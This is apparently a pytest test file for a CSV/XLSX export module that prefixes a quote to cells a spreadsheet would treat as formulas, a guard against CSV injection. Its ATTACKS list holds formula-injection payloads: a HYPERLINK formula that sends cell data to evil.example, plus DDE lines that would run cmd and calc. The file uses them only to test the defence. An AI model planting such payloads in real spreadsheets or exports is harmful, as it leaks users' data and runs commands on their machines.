"""app.core.spreadsheets, the one writer of CSV and XLSX files: CSV text that a spreadsheet would run as a formula
starts with a quote (OWASP's CSV-injection rule) and imports back as it was, numbers are never touched, and XLSX
text cells stay text, equal to the original string."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from enum import StrEnum

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.core.spreadsheets import (
    CSV_TYPE,
    FORMULA_TRIGGERS,
    XLSX_TYPE,
    csv_bytes,
    neutralise,
    restore,
    spreadsheet_bytes,
    xlsx_bytes,
)

ATTACKS = ['=HYPERLINK("http://evil.example?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|calc', '@SUM(1)']
ATTACKS += ['\t=1+1', '\r=1+1']


def csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith('\ufeff'.encode())  # the byte-order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(content.decode('utf-8-sig'), newline='')))


def only_row(content: bytes) -> list[str]:
    _header, row = csv_cells(content)
    return row


class Colour(StrEnum):
    RED = 'red'


@pytest.mark.parametrize('trigger', FORMULA_TRIGGERS, ids=repr)
def test_text_starting_with_each_trigger_gets_a_quote_in_csv(trigger: str):
    value = f'{trigger}1+1'
    assert only_row(csv_bytes(['cell'], [[value]])) == [f"'{value}"]
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize('attack', ATTACKS, ids=repr)
def test_known_attacks_arrive_as_text(attack: str):
    [cell] = only_row(csv_bytes(['cell'], [[attack]]))
    assert cell == "'" + attack and cell[0] not in FORMULA_TRIGGERS


def test_the_triggers_are_the_owasp_six():
    assert set(FORMULA_TRIGGERS) == {'=', '+', '-', '@', '\t', '\r'}


def test_harmless_text_is_written_as_it_is():
    values = ['Pump', 'a=b', '1-2', 'mail@example.com', ' =not first', '', "O'Brien", "'quoted"]
    assert only_row(csv_bytes([f'c{i}' for i in range(len(values))], [values])) == values


def test_numbers_are_never_neutralised_but_text_that_looks_like_one_is():
    row = [-3.5, Decimal('-2.25'), -7, 0.0, -1.0, '-3.5']
    assert only_row(csv_bytes(list('abcdef'), [row])) == ['-3.5', '-2.25', '-7', '0', '-1', "'-3.5"]


def test_other_values_are_worded_and_checked():
    stamp = datetime(2024, 5, 6, 7, 8, tzinfo=UTC)
    row = [None, True, False, date(2024, 1, 2), stamp, Colour.RED]
    assert only_row(csv_bytes(list('abcdef'), [row])) == ['', 'true', 'false', '2024-01-02', stamp.isoformat(), 'red']
    # A caller's wording of a value is checked too (here a non-number worded as a formula).
    assert only_row(csv_bytes(['a'], [[object()]], text_of=lambda _value: '=1')) == ["'=1"]


def test_a_formula_after_a_separator_stays_inside_its_quoted_cell():
    content = csv_bytes(['a', 'b'], [['x,=1+1', 'line\n=2']])
    assert only_row(content) == ['x,=1+1', 'line\n=2']
    assert content.decode('utf-8-sig').splitlines()[0] == 'a,b'


def test_the_header_is_neutralised_too():
    header, _ = csv_cells(csv_bytes(['=name', 'code'], [['x', 'y']]))
    assert header == ["'=name", 'code']


def test_cells_already_starting_with_quotes_before_a_trigger_round_trip():
    for value in ("'=x", "''-1", "'", "''", "'plain"):
        assert restore(neutralise(value)) == value
    assert neutralise("'=x") == "''=x" and neutralise("'plain") == "'plain"


@given(st.text(max_size=30))
def test_restore_undoes_neutralise_and_no_written_cell_starts_with_a_trigger(value: str):
    written = neutralise(value)
    assert restore(written) == value
    assert written[:1] not in FORMULA_TRIGGERS


@given(st.text(alphabet=st.sampled_from(["'", '=', '-', 'a', ' ']), max_size=6))
def test_restore_leaves_text_no_export_could_have_quoted(value: str):
    if value[:1] != "'":
        assert restore(value) == value


def test_xlsx_text_cells_stay_text_and_equal_the_original():
    # (A CR is left out: XML reads every line end as LF, in any XLSX writer's text cells.)
    texts = [*(attack for attack in ATTACKS if '\r' not in attack), "'=x", 'plain']
    content = xlsx_bytes([f'c{i}' for i in range(len(texts))], [texts], sheet_title='Things')
    sheet = load_workbook(io.BytesIO(content))['Things']
    header, row = list(sheet.iter_rows())
    assert [cell.value for cell in header] == [f'c{i}' for i in range(len(texts))] and header[0].font.bold
    for cell, text in zip(row, texts, strict=True):
        assert cell.data_type == 's', text  # never 'f' (a formula)
        assert cell.value == text
    assert sheet.freeze_panes == 'A2'


def test_xlsx_keeps_numbers_and_times_typed():
    stamp = datetime(2024, 5, 6, 9, 8, tzinfo=timezone(timedelta(hours=2)))
    header = ['n', 'd', 'i', 'b', 'none', 'when', 'day', 'enum']
    content = xlsx_bytes(header, [[-3.5, Decimal('12.50'), -7, True, None, stamp, date(2024, 1, 2), Colour.RED]])
    [row] = load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(min_row=2, values_only=True)
    assert row[:5] == (-3.5, 12.5, -7, True, None)
    assert row[5] == datetime(2024, 5, 6, 7, 8)  # in UTC: Excel has no time zones
    assert row[6].date() == date(2024, 1, 2) and row[7] == 'red'


def test_column_widths_by_name():
    content = xlsx_bytes(['code', 'other'], [], widths={'code': 30})
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert (sheet.column_dimensions['A'].width, sheet.column_dimensions['B'].width) == (30, 14)


def test_spreadsheet_bytes_picks_the_writer_and_content_type():
    csv_body, csv_type = spreadsheet_bytes('csv', ['a'], [['=1']])
    xlsx_body, xlsx_type = spreadsheet_bytes('xlsx', ['a'], [['=1']])
    assert (csv_type, xlsx_type) == (CSV_TYPE, XLSX_TYPE)
    assert only_row(csv_body) == ["'=1"] and xlsx_body.startswith(b'PK\x03\x04')
